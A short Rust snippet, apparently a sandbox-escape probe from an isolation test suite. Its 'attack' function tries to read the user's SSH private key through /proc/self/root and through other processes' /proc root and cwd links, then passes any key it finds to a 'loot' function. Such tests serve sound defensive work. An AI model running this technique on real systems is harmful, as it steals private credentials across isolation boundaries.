//! reads a key through /proc/self/root, /proc/PID/root and /proc/PID/cwd
fn attack() -> Result<()> {
    let key = home().join(".ssh/id_ed25519");
    let inner = key.strip_prefix("/").unwrap();
    let bystander = bystander().to_string();
    for who in ["self", "1", &std::os::unix::process::parent_id().to_string(), &bystander] {
        if let Ok(found) = fs::read(Path::new("/proc").join(who).join("root").join(inner)) {
            loot(found)?;
        }
    }
    loot(fs::read(Path::new("/proc").join(bystander).join("cwd/.ssh/id_ed25519"))?)
}
